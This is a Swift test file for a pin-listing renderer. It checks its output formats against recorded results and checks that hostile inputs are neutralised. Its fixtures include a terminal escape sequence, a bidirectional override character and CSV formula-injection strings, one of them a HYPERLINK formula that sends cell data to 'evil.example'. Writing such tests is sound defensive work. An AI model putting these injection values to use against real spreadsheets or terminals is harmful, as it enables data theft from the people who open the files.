import Answers
import Foundation
import PostAnswers
import TestSupport
import Testing

@Suite struct PinRendererTests {
  private static let ada = ShownPin(
    id: "8ZExGR5uX8", name: "Ada Lovelace", place: "London", link: "https://example.org/ada",
    latitude: 51.50853, longitude: -0.12574, createdAt: "2026-03-11T02:48:18.321Z",
    updatedAt: "2026-03-12T00:00:00.000Z", distanceMeters: 0, isMine: true)
  /// What an old app may have sent, and what would harm a terminal, a table or a page.
  private static let hostile = ShownPin(
    id: "a", name: "", place: "東京, \"Tokyo\"\n\u{1B}[2J", link: "wwww\u{202E}", latitude: -0.5,
    longitude: 180, createdAt: "2026-03-11T02:48:18.321Z", updatedAt: "2026-03-11T02:48:18.321Z",
    distanceMeters: 12_345.678)

  static let listings: [(name: String, listing: PinListing)] = [
    (
      "newest",
      PinListing(
        pins: [ada, hostile].map { pin in
          var pin = pin
          pin.distanceMeters = nil
          return pin
        })
    ),
    ("near", PinListing(pins: [ada, hostile], searchedToMeters: 50_000)),
    ("everywhere", PinListing(pins: [ada], searchedToMeters: 20_015_115)),
    ("none", PinListing(pins: [])),
  ]

  @Test(arguments: AnswerFormat.allCases)
  func everyFormatIsAsRecorded(format: AnswerFormat) throws {
    for (name, listing) in Self.listings {
      var bytes: [UInt8] = []
      PinRenderer(format: format).append(listing, to: &bytes)
      try expectGolden(
        String(decoding: bytes, as: UTF8.self), named: "pins/\(name).\(format.rawValue)")
    }
  }

  /// A teacher opens the table in a spreadsheet, which would follow them.
  @Test(arguments: [
    "=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1", "@SUM(1)", " =1", "\t=1",
  ])
  func noTextOfOthersIsAFormula(text: String) throws {
    var pin = Self.ada
    pin = ShownPin(
      id: pin.id, name: text, place: text, link: text, latitude: -1, longitude: 1,
      createdAt: pin.createdAt, updatedAt: pin.updatedAt)
    var bytes: [UInt8] = []
    PinRenderer(format: .csv).append(PinListing(pins: [pin]), to: &bytes)
    let row = try #require(String(decoding: bytes, as: UTF8.self).split(separator: "\n").last)
    let quoted = "'" + text.replacing("\"", with: "\"\"")
    #expect(row.components(separatedBy: quoted).count == 4, "\(row)")
    #expect(row.contains(",-1,1,"), "numbers stay numbers")
  }

  @Test func noFormatLetsControlCharactersThroughToATerminal() {
    var bytes: [UInt8] = []
    PinRenderer(format: .text).append(
      PinListing(pins: [Self.hostile], searchedToMeters: nil), to: &bytes)
    #expect(!bytes.contains(0x1B))
    #expect(bytes.filter { $0 == 0x0A }.count == 3)
  }
}
